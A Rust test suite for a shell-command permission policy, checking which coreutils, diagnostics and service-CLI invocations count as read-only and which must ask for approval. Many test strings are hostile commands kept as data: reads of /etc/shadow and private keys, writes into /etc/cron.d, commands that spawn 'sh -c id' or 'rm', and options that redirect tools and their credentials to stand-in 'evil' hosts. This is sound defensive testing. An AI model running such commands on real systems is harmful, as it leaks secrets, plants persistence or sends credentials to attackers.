//! Strict specs for coreutils and the diagnostics tools (issue 13, A3): a real option a spec
//! does not declare asks, an option that writes, runs a program or reads another file asks,
//! an option's value is never read as an operand, and everyday reads stay read-only.

use nomos_policy::{Class, classify};

use crate::families::{assert_all_ask, assert_all_read_only};

/// Each option form in its spellings: `--opt=v`, `--opt v`, and the short one attached,
/// separate and bundled behind a harmless flag (`F` is the flag, `V` the value).
fn spellings(cmd: &str, long: &str, short: Option<char>, flag: char, value: &str) -> Vec<String> {
    let mut v = vec![
        cmd.replace("OPT", &format!("{long}={value}")),
        cmd.replace("OPT", &format!("{long} {value}")),
    ];
    if let Some(c) = short {
        v.push(cmd.replace("OPT", &format!("-{c} {value}")));
        v.push(cmd.replace("OPT", &format!("-{c}{value}")));
        v.push(cmd.replace("OPT", &format!("-{flag}{c} {value}")));
    }
    v
}

/// A command that must ask, in every position options may take (before and after an
/// operand, GNU permutes them).
fn everywhere(cmd: &str, opt: &str, operand: &str) -> Vec<String> {
    vec![
        format!("{cmd} {opt} {operand}"),
        format!("{cmd} {operand} {opt}"),
        format!("sudo {cmd} {opt} {operand}"),
    ]
}

#[test]
fn options_that_write_run_or_read_other_files_ask() {
    let mut cmds = Vec::new();
    // Writes a file.
    cmds.extend(spellings(
        "dmidecode OPT",
        "--dump-bin",
        None,
        'q',
        "/etc/motd",
    ));
    cmds.extend(spellings(
        "shuf OPT /tmp/x",
        "--output",
        Some('o'),
        'r',
        "/etc/motd",
    ));
    cmds.extend(spellings(
        "iconv -f latin1 OPT /tmp/x",
        "--output",
        Some('o'),
        'c',
        "/etc/motd",
    ));
    cmds.extend(spellings(
        "blkid OPT /dev/sda1",
        "--cache-file",
        Some('c'),
        'p',
        "/etc/motd",
    ));
    cmds.extend(everywhere("sar", "-o /etc/motd", "1 3"));
    // Changes state.
    for c in [
        "lastlog -C -u bob",
        "lastlog --clear --user bob",
        "lastlog -S -u bob",
        "lastlog -u bob --set",
        "faillog -r",
        "faillog -u bob --reset",
        "faillog -m 3",
        "faillog --maximum=3 -u bob",
        "faillog -l 60 -u bob",
        "hostname -b",
        "hostname -F /tmp/name",
        "hostname --file=/tmp/name",
        "blkid -g",
    ] {
        cmds.push(c.to_owned());
    }
    // Runs a program.
    for c in [
        "pidstat -e touch /tmp/x",
        "pidstat -d -e sh -c id",
        "ptx -G /tmp/a /tmp/b",
        "ptx --traditional /tmp/a /tmp/b",
    ] {
        cmds.push(c.to_owned());
    }
    // Reads another file, echoed in errors or output.
    cmds.extend(spellings(
        "findmnt OPT",
        "--tab-file",
        Some('F'),
        'n',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "lslogins OPT",
        "--wtmp-file",
        None,
        'u',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "lslogins OPT",
        "--btmp-file",
        None,
        'u',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "lslogins OPT",
        "--lastlog",
        None,
        'u',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "last OPT",
        "--file",
        Some('f'),
        'x',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "hexdump OPT /tmp/x",
        "--format-file",
        Some('f'),
        'C',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "dmidecode OPT",
        "--from-dump",
        None,
        'q',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "dmidecode OPT",
        "--dev-mem",
        Some('d'),
        'q',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "file OPT /tmp/x",
        "--files-from",
        Some('f'),
        'b',
        "/etc/shadow",
    ));
    cmds.extend(spellings(
        "du OPT",
        "--files0-from",
        None,
        's',
        "/etc/shadow",
    ));
    for c in [
        "dircolors /etc/shadow",
        "tsort /etc/shadow",
        "cut -f1 /etc/shadow",
        "column -t /etc/shadow",
    ] {
        cmds.push(c.to_owned());
    }
    assert_all_ask(&cmds);
}

#[test]
fn real_options_left_undeclared_ask() {
    // Options that exist but whose value is a file, a chroot or a server: undeclared on
    // purpose, so they ask wherever they stand.
    let mut cmds = Vec::new();
    for (cmd, opt, operand) in [
        ("lspci", "-i /etc/shadow", "-v"),
        ("lspci", "-p /tmp/modules.alias", "-k"),
        ("lspci", "-F /tmp/dump", "-v"),
        ("lsof", "-D b", "-i"),
        ("lsof", "-k /tmp/namelist", "-n"),
        ("lsof", "-A /tmp/namelist", "-n"),
        ("lsof", "-m /tmp/kmem", "-n"),
        ("inxi", "-U", "-b"),
        ("inxi", "-W berlin", "-b"),
        ("lastlog", "-R /mnt", "-u root"),
        ("lastlog", "--root=/mnt", "-u root"),
        ("faillog", "-R /mnt", "-a"),
        ("ps", "-K", "-ef"),
        ("file", "-m /tmp/magic", "/tmp/x"),
    ] {
        cmds.extend(everywhere(cmd, opt, operand));
    }
    assert_all_ask(&cmds);
}

#[test]
fn an_options_value_is_never_an_operand() {
    // The value of a declared option is not a file to read: reading it as one asked for
    // nothing (lenient specs skipped the option and kept its value as an operand).
    assert_all_read_only(&[
        "tac -s /etc/shadow /tmp/x",
        "tac --separator /etc/shadow /tmp/x",
        "nl -s /etc/shadow /tmp/x",
        "nl --number-separator=/etc/shadow /tmp/x",
        "cut -d /etc/shadow -f1 /tmp/x",
        "paste -d /etc/shadow /tmp/a /tmp/b",
        "column -s /etc/shadow -t /tmp/x",
        "od -j /etc/shadow /tmp/x",
        "strings -n 6 /tmp/x",
        "base64 -w 0 /tmp/x",
        "join -t /etc/shadow /tmp/a /tmp/b",
    ]);
    // The other way round: a flag is not a value-taking option, so the next word is
    // still the file, and a secret one asks.
    assert_all_ask(&[
        "cat -A /etc/shadow".to_owned(),
        "tac -b /etc/shadow".to_owned(),
        "nl -p /etc/shadow".to_owned(),
        "cut -s -f1 /etc/shadow".to_owned(),
        "base64 -d /etc/shadow".to_owned(),
        "strings -a /etc/shadow".to_owned(),
        "od -c /etc/shadow".to_owned(),
        "fold -s /etc/shadow".to_owned(),
        "rev -0 /etc/shadow".to_owned(),
        "hexdump -C /etc/shadow".to_owned(),
        "comm -3 /tmp/a /etc/shadow".to_owned(),
    ]);
}

#[test]
fn modes_spelled_like_options_still_write_their_files() {
    // `chmod -x f` is a mode: the file is still written, protected paths ask every time.
    for c in [
        "chmod -x /etc/cron.daily/backup",
        "chmod -w /etc/sudoers",
        "chmod -rwx /etc/cron.d/job",
        "chmod -R -x /etc/systemd/system",
        "chattr -i /etc/passwd",
        "chattr -ia /etc/shadow",
    ] {
        let d = classify(c);
        assert_eq!(
            d.class,
            Class::Destructive,
            "{c}: {} {}",
            d.rule(),
            d.reason()
        );
    }
    assert_eq!(
        classify("chmod -x /srv/app/run.sh").class,
        Class::ConfigMutation
    );
}

#[test]
fn everyday_reads_stay_read_only() {
    assert_all_read_only(&[
        "ls -la /etc",
        "ls -lhS --color=never /var/log",
        "ls -lt --time-style=long-iso /var/log | head",
        "ls -1 --sort=size /srv",
        "ls -laF /etc",
        "cat -A /etc/fstab",
        "stat -c '%a %U %G' /etc/ssh/sshd_config",
        "stat --format=%s /var/log/syslog",
        "du -xh --max-depth=1 / 2>/dev/null | sort -h",
        "du -sh --exclude=*.iso /srv",
        "du -h -d 1 /var",
        "df -hT -x tmpfs -x devtmpfs",
        "df --output=source,pcent /",
        "readlink -f /usr/bin/python3",
        "sha256sum -c SHA256SUMS --ignore-missing",
        "file -bi /tmp/x",
        "blkid -s UUID -o value /dev/sda1",
        "uname -srm",
        "id -Gn root",
        "free -m -s 1 -c 3",
        "vmstat -S M 1 2",
        "lscpu --extended=CPU,MHZ",
        "lspci -vvs 00:02.0",
        "lspci -nnk",
        "lsusb -v -d 1d6b:0002",
        "lsblk -dno NAME,ROTA",
        "findmnt -no SOURCE /",
        "findmnt -t ext4,xfs",
        "lslogins -o USER,LAST-LOGIN",
        "pstree -ap 1",
        "pgrep -u www-data -f php-fpm",
        "pidof -s sshd",
        "top -b -n 1 -o %MEM",
        "top -bn1 -p 1",
        "iostat -xz 1 2",
        "mpstat -P ALL 1 3",
        "sar -n DEV 1 3",
        "pidstat -r -p 1234 1 3",
        "last -aiF -n 5",
        "last -20",
        "lastlog -u root",
        "faillog -a",
        "iotop -b -o -n 3",
        "lsof -nP -iTCP -sTCP:LISTEN",
        "lsof -i :22",
        "lsof +D /var/log",
        "netstat -tulpn",
        "modinfo -F version zfs",
        "dmidecode -t memory",
        "inxi -Fxz",
        "mountpoint -q /mnt/backup",
        "ps -eo pid,user,comm --sort -rss",
        "ps --ppid 1 -o pid,cmd",
        "ps aux --sort=-%mem",
        "hostname -I",
        "cut -d: -f1 /etc/passwd",
        "tr -d '\\r' < /tmp/x",
        "column -t -s: /etc/group",
        "hexdump -C -n 64 /tmp/x",
        "strings -8 /tmp/x",
        "shuf -i 1-100 -n 1",
        "iconv -l",
        "seq -w 1 10",
        "expr 1 + 2",
        "numfmt --to=iec 1048576",
        "sync -f /srv",
    ]);
}

#[test]
fn diagnostics_tools_ask_for_keys_configs_programs_and_undeclared_options() {
    let mut cmds = Vec::new();
    // TSIG keys, configuration files and log directories of DNS and NetBIOS lookups.
    for (cmd, opt, operand) in [
        ("kdig", "-k /etc/knot/tsig.key", "example.com"),
        ("kdig", "-y hmac-sha256:name:c2VjcmV0", "example.com"),
        ("kdig", "-E /etc/cron.d/x", "example.com"),
        ("kdig", "-G /etc/shadow", "example.com"),
        ("nmblookup", "-s /tmp/smb.conf", "nas"),
        ("nmblookup", "--configfile=/tmp/smb.conf", "nas"),
        ("nmblookup", "-l /tmp", "nas"),
        ("fd", "--base-directory /etc", "x"),
        ("fd", "--search-path /root", "x"),
        ("fd", "-x rm", "x"),
        ("fd", "--exec-batch=rm", "x"),
        ("fd", "--ignore-file /etc/shadow", "x"),
        ("readelf", "-a", "/etc/shadow"),
        ("readelf", "--debug-file-directory=/tmp", "/usr/bin/ls"),
        ("zramctl", "-s 4G", "/dev/zram0"),
        ("zramctl", "--reset", "/dev/zram0"),
        ("zramctl", "-f", "-s 1G"),
        ("grub-editenv", "-v", "- set saved_entry=1"),
        ("numastat", "-x", "-m"),
        ("acpi", "-x", "-b"),
    ] {
        cmds.extend(everywhere(cmd, opt, operand));
    }
    assert_all_ask(&cmds);
    assert_all_read_only(&[
        "kdig -4 -p 53 @10.0.0.1 example.com +short",
        "kdig -t MX example.com",
        "nmblookup -B 10.0.0.255 nas",
        "nmblookup -A 10.0.0.5",
        "fd -d 2 -E node_modules conf /srv",
        "fd --changed-within 1d . /var/log",
        "fdfind -H -t f compose.yaml /opt",
        "readelf -Ws /usr/lib/x86_64-linux-gnu/libc.so.6",
        "readelf -p .comment /usr/bin/ls",
        "zramctl -b -o NAME,DISKSIZE",
        "grub-editenv - list",
        "numastat -s0 -m",
        "acpi -bi",
    ]);
}

#[test]
fn small_inspection_tools_ask_for_what_reads_writes_or_runs() {
    let mut cmds = Vec::new();
    for (cmd, opt, operand) in [
        // Other files printed, coders, templates and entities.
        ("difft", "--display inline", "/etc/shadow /tmp/x"),
        ("gron", "-m", "/root/.docker/config.json"),
        ("gron", "-k", "https://example.com/x.json"),
        ("shellcheck", "--rcfile /etc/shadow", "/tmp/x.sh"),
        ("shellcheck", "-x", "/etc/shadow"),
        ("identify", "-verbose", "msl:/tmp/x.msl"),
        ("identify", "-ping", "@/tmp/list"),
        ("identify", "-verbose", "/etc/shadow"),
        ("mediainfo", "--Inform=file:///tmp/t", "a.mkv"),
        ("mediainfo", "--LogFile=/etc/motd", "a.mkv"),
        ("xmllint", "--noent", "/tmp/x.xml"),
        ("xmllint", "--xinclude --format", "/tmp/x.xml"),
        ("xmllint", "--dtdattr", "/tmp/x.xml"),
        ("xmllint", "-o /etc/motd", "/tmp/x.xml"),
        ("yamllint", "-c /etc/shadow", "/tmp/x.yaml"),
        ("dpigs", "-s /etc/shadow", "-n 5"),
        // Writes, mails, configuration that runs commands.
        ("gdu", "-l /etc/cron.d/x", "-n /"),
        ("gdu", "--output-file=/etc/motd", "-n /"),
        ("gdu", "--config-file /tmp/x.yaml", "-n /"),
        ("dstat", "--out /etc/cron.d/x", "1 5"),
        ("sslscan", "--xml=/etc/cron.d/x", "host"),
        ("sslscan", "--pk /root/client.key", "host"),
        ("debsecan", "--mailto root", "--suite bookworm"),
        ("debsecan", "--update-history", "--suite bookworm"),
        ("deborphan", "-A", "libfoo"),
        ("deborphan", "--del-keep", "libfoo"),
        ("fastfetch", "-c /tmp/x.jsonc", "-l none"),
        ("pflogsumm", "--mailq", "/var/log/mail.log"),
        // Servers, users and credentials.
        ("lpstat", "-h evil.example:631", "-t"),
        ("lpstat", "-U bob", "-o"),
        ("httping", "-U admin -P secret", "-g https://x"),
        ("qshape", "-c /tmp/postfix", "deferred"),
        ("sg_vpd", "--inhex=/tmp/dump", "-a"),
        ("lsd", "--config-file /tmp/x.yaml", "/"),
    ] {
        cmds.extend(everywhere(cmd, opt, operand));
    }
    assert_all_ask(&cmds);
    assert_all_read_only(&[
        "eza -la --git /opt/stacks",
        "eza -T -L 2 /etc/nginx",
        "exa -lh --sort=size /var/log",
        "lsd --tree --depth 2 /srv",
        "duf -only local",
        "duf --hide-fs tmpfs,devtmpfs",
        "dust -d 1 /var",
        "gdu -nps /var",
        "gdu -n -i /proc,/sys /",
        "dstat -tcm -D sda 1 5",
        "dstat --top-cpu --top-mem 1 5",
        "difft --display inline /tmp/a /tmp/b",
        "gron /tmp/x.json",
        "shellcheck -x -S warning /usr/local/bin/backup.sh",
        "identify -format '%w %h' /tmp/x.png",
        "mediainfo --Language=raw /srv/media/a.mkv",
        "xmllint --xpath '//server/@port' /tmp/x.xml",
        "yamllint -d relaxed -f parsable /opt/stacks",
        "hadolint --ignore DL3008 -f json Dockerfile",
        "lpstat -t",
        "sslscan --no-colour --show-certificate mail.example.com:465",
        "doggo -t AAAA example.com --short",
        "pve8to9 --full",
        "sg_vpd -p di /dev/sdc",
        "tlp-stat -b",
        "whatis -s 8 mount",
    ]);
}

#[test]
fn subcommand_tools_ask_for_options_their_subcommands_do_not_declare() {
    let mut cmds = Vec::new();
    for (cmd, opt, operand) in [
        ("proxmox-backup-manager datastore list", "--frobnicate", ""),
        ("proxmox-backup-manager task list", "--limit", ""),
        ("proxmox-backup-manager user list", "--exec=id", ""),
        ("amtool alert query", "--frobnicate", "alertname=x"),
        ("amtool silence query", "--output-file=/etc/motd", "x=y"),
        (
            "amtool config routes test",
            "--frobnicate",
            "severity=critical",
        ),
        (
            "promtool query instant",
            "--header 'Authorization: Bearer x'",
            "http://localhost:9090 up",
        ),
        (
            "promtool query range",
            "--http.config.file=/tmp/x.yml",
            "http://localhost:9090 up",
        ),
        ("promtool test rules", "--junit /etc/cron.d/x", "tests.yml"),
        (
            "promtool check config",
            "--frobnicate",
            "/etc/prometheus/prometheus.yml",
        ),
        (
            "promtool tsdb dump",
            "--sandbox-dir-root /tmp/x",
            "/var/lib/prometheus",
        ),
        ("influx bucket list", "--host http://evil:8086", ""),
        ("influx bucket list", "--configs-path=/tmp/configs", ""),
        ("influx task run list", "--frobnicate", "--task-id 1"),
        ("influx org members list", "--frobnicate", "-n home"),
        ("ctr images ls", "--frobnicate", ""),
        ("ctr tasks ls", "--frobnicate", ""),
        ("ctr namespaces ls", "--frobnicate", ""),
        ("grafana-cli plugins ls", "--frobnicate", ""),
    ] {
        cmds.extend(everywhere(cmd, opt, operand));
    }
    // A value-taking option after the subcommand is not skipped as if it were a flag.
    cmds.push("influx bucket list --frobnicate delete".to_owned());
    cmds.push("ctr images ls --frobnicate rm".to_owned());
    assert_all_ask(&cmds);
    assert_all_read_only(&[
        "proxmox-backup-manager datastore list --output-format json",
        "proxmox-backup-manager task list --all --limit 20",
        "proxmox-backup-manager user permissions backup@pbs --path /datastore/store1",
        "proxmox-backup-manager versions --verbose",
        "amtool alert query -s -i alertname=NodeDown",
        "amtool alert --receiver=team-x",
        "amtool silence query --expired -q",
        "amtool config routes test --tree severity=critical",
        "promtool check config --syntax-only /etc/prometheus/prometheus.yml",
        "promtool query range --start 2024-01-01T00:00:00Z --end 2024-01-01T01:00:00Z --step 1m http://localhost:9090 up",
        "promtool tsdb analyze --limit 10 /var/lib/prometheus",
        "influx bucket list --json",
        "influx bucket find -n telegraf",
        "influx task run list --task-id 0a1b2c3d4e5f6789 --limit 5",
        "ctr -n k8s.io images ls -q",
        "ctr tasks metrics --format json web",
        "ctr plugins ls -d",
        "grafana-cli --pluginsDir /var/lib/grafana/plugins plugins ls",
    ]);
}

#[test]
fn service_and_storage_clis_ask_for_undeclared_and_dangerous_options() {
    let mut cmds = Vec::new();
    for (cmd, opt, operand) in [
        ("step certificate inspect", "--frobnicate", "/tmp/x.crt"),
        (
            "step certificate inspect",
            "--short",
            "/etc/ssl/private/server.key",
        ),
        ("cscli explain", "--dsn file:///etc/shadow", "--type syslog"),
        ("cscli decisions list", "--frobnicate", ""),
        ("bat", "--diagnostic", "/tmp/x"),
        ("bat", "--generate-config-file", ""),
        ("bat", "--pager='sh -c id'", "/tmp/x"),
        ("tmux ls", "-x", ""),
        ("supervisorctl status", "--frobnicate", "all"),
        ("dkms status", "-c /tmp/x.conf", ""),
        ("dkms status", "--dkmstree /tmp/x", ""),
        ("fwupdmgr get-devices", "--disable-ssl-strict", ""),
        ("snapper list", "--frobnicate", ""),
        ("snapper status", "-o /etc/cron.d/x", "1..2"),
        ("snapper status", "--output=/etc/motd", "1..2"),
        ("snapraid status", "-l /etc/cron.d/x", ""),
        ("snapraid status", "--log=/etc/motd", ""),
        ("snapraid status", "-i /tmp", ""),
        ("btrbk list", "--lockfile /etc/cron.d/x", ""),
        ("btrbk list", "--override x=y", ""),
        ("ipset list", "-f /etc/cron.d/x", ""),
        ("ipset save", "-file /etc/motd", ""),
        ("ipset list", "--frobnicate", ""),
    ] {
        cmds.extend(everywhere(cmd, opt, operand));
    }
    // Server options that start programs or send the configured credentials elsewhere.
    for c in [
        "tmux -c 'touch /tmp/M' ls",
        "tmux -f /tmp/evil.conf ls",
        "supervisorctl -s http://evil:9001 status",
        "supervisorctl --serverurl=http://evil:9001 status",
        "supervisorctl -i",
        "supervisorctl -r /etc/cron.d/x status",
        // The content diff of changed files, secrets included.
        "snapper diff 41..42",
        "snapper -c root diff 1..2 /etc/shadow",
        "snapper diff --diff-cmd 'sh -c id' 1..2",
    ] {
        cmds.push(c.to_owned());
    }
    assert_all_ask(&cmds);
    assert_all_read_only(&[
        "step certificate inspect https://pve.lan:8006 --insecure --short",
        "step certificate verify /tmp/leaf.crt --roots /tmp/root.crt",
        "cscli decisions list --origin crowdsec -l 20 -o json",
        "cscli alerts list --since 4h -m",
        "cscli collections list -a",
        "bat -pl ini /etc/php/8.2/fpm/php.ini",
        "bat --paging=never -r 10:20 /etc/nginx/nginx.conf",
        "tmux list-panes -a -F '#{pane_id} #{pane_current_command}'",
        "tmux show-options -gv status",
        "supervisorctl tail -f worker",
        "supervisorctl maintail -200",
        "dkms status -k 6.8.12-4-pve",
        "fwupdmgr get-devices --json",
        "snapper -c home list -t single",
        "snapper --jsonout list -a",
        "snapraid check -a -d d1",
        "btrbk list snapshots --format=table",
        "btrbk -n -S run",
        "ipset list -t blocklist",
        "ipset -L -o save",
    ]);
}

#[test]
fn network_daemon_and_firmware_clis_ask_for_undeclared_and_dangerous_options() {
    let mut cmds = Vec::new();
    for (cmd, opt, operand) in [
        ("ovs-vsctl show", "--frobnicate", ""),
        ("ovs-ofctl dump-flows", "--frobnicate", "br0"),
        ("rndc status", "-x", ""),
        ("monit status", "--frobnicate", ""),
        ("tuned-adm list", "--frobnicate", ""),
        ("powerprofilesctl list", "--frobnicate", ""),
        ("udisksctl info", "--frobnicate", "-b /dev/sda1"),
        ("sbctl verify", "--frobnicate", ""),
        ("pgbackrest info", "--frobnicate", ""),
        ("pgbackrest info", "--log-path=/etc/cron.d", ""),
        ("patronictl list", "--frobnicate", ""),
        ("pveproxy status", "--frobnicate", ""),
        ("vma list", "--frobnicate", "x.vma"),
        ("swanctl --list-sas", "--frobnicate", ""),
        ("udevadm verify", "--frobnicate", ""),
        ("cpupower frequency-info", "--frobnicate", ""),
        (
            "qemu-img info",
            "--object secret,id=s,file=/etc/shadow",
            "disk.qcow2",
        ),
        (
            "qemu-img check",
            "--object=secret,id=s,file=/root/key",
            "disk.qcow2",
        ),
        ("qemu-img compare", "--frobnicate", "a.qcow2 b.qcow2"),
        ("occ user:list", "--frobnicate", ""),
        ("occ config:system:get", "--frobnicate", "overwrite.cli.url"),
        ("ha core info", "--endpoint http://evil", ""),
    ] {
        cmds.extend(everywhere(cmd, opt, operand));
    }
    for c in [
        // Another command after `--`, log files, daemons and interactive shells.
        "ovs-vsctl list-br -- add-br vmbr9",
        "ovs-vsctl show -- del-br vmbr0",
        "ovs-vsctl --log-file=/etc/cron.d/x show",
        "ovs-ofctl --log-file=/etc/cron.d/x show br0",
        "monit -I",
        "monit -d 60",
        "patronictl -k list",
        "zerotier-cli -D/tmp/zt listnetworks",
        // Resolver state changes spelled like read-only commands.
        "rndc nta example.com",
        "rndc nta -dump -remove example.com",
        "rndc nta -lifetime 1h example.com",
        "rndc signing -list -clear all example.lan",
        "rndc validation off",
        "rndc secroots",
        // Mutating leaves keep asking, with or without their options.
        "ha core update --version 2024.6.0 --backup",
        "ha network update eth0 --ipv4-method static --frobnicate",
        "pihole allow example.com --comment x",
        "udevadm trigger --frobnicate",
        "udevadm control --reload-rules",
        "cpupower frequency-set -g performance",
        "qemu-img convert -O raw disk.qcow2 /dev/sdb",
        "occ files:scan --all",
        "etckeeper commit 'before upgrade'",
    ] {
        cmds.push(c.to_owned());
    }
    assert_all_ask(&cmds);
    assert_all_read_only(&[
        "ovs-vsctl --columns=name,ofport list Interface",
        "ovs-ofctl -O OpenFlow13 dump-flows br0 --no-stats",
        "rndc -s 127.0.0.1 -p 953 status",
        "rndc nta -dump",
        "rndc signing -list example.lan",
        "monit -B summary",
        "tuned-adm verify -i",
        "udisksctl info --block-device=/dev/sda1",
        "sbctl status --json",
        "pgbackrest info --stanza main --output json",
        "patronictl -c /etc/patroni/config.yml topology -f json",
        "vma verify -v /var/lib/vz/dump/x.vma",
        "zerotier-cli -j listnetworks",
        "swanctl --list-sas --ike home -P",
        "udevadm trigger -n --subsystem-match=block",
        "cpupower frequency-info -g -m",
        "qemu-img info -f qcow2 --backing-chain disk.qcow2",
        "qemu-img compare -s -f qcow2 -F raw a.qcow2 b.raw",
        "qemu-img check -U --output=json disk.qcow2",
        "occ user:list -i --limit 10",
        "occ config:system:get overwrite.cli.url --default-value x",
        "ha core logs --lines 200",
    ]);
}

#[test]
fn ps_values_that_send_it_back_to_bsd_parsing_ask() {
    // When a user, group or terminal does not resolve, procps reads the whole line again as
    // BSD options without the dashes: `ps -auxe` is `ps auxe`, `e` prints environments.
    let mut cmds = Vec::new();
    for (opt, value) in [
        ("-u", "xe"),
        ("-U", "xe"),
        ("-g", "ae"),
        ("-G", "xe"),
        ("-t", "e"),
        ("--user", "xe"),
        ("--group", "ae"),
    ] {
        cmds.push(format!("ps {opt} {value}"));
        cmds.push(format!("ps -o pid,cmd {opt} {value}"));
        cmds.push(format!("ps -f {opt} {value}"));
    }
    // Attached to a cluster; BSD `U` and `t` would take the rest as their value instead.
    for c in ["ps -auxe", "ps -axue", "ps -agxe", "ps -fue"] {
        cmds.push(c.to_owned());
    }
    for c in [
        "ps -auxe",
        "ps -efu e",
        "ps -ue",
        "ps -eo pid,cmd -u postgres",
        "ps -e -u nobody",
        "ps -u \"$u\"",
        "sudo ps -auxe",
    ] {
        cmds.push(c.to_owned());
    }
    assert_all_ask(&cmds);
    assert_all_read_only(&[
        "ps -aUxe",
        "ps -ate",
        "ps --user=xe",
        "ps -u postgres",
        "ps -fu postgres",
        "ps -u root -e",
        "ps -u 1000 -e",
        "ps -aux",
        "ps -p 1 -o comm=",
        "ps -C sleep -o pid,etime",
        "who am i",
    ]);
    assert_all_ask(&[
        "who /etc/shadow".to_owned(),
        "who -a /etc/shadow".to_owned(),
    ]);
}
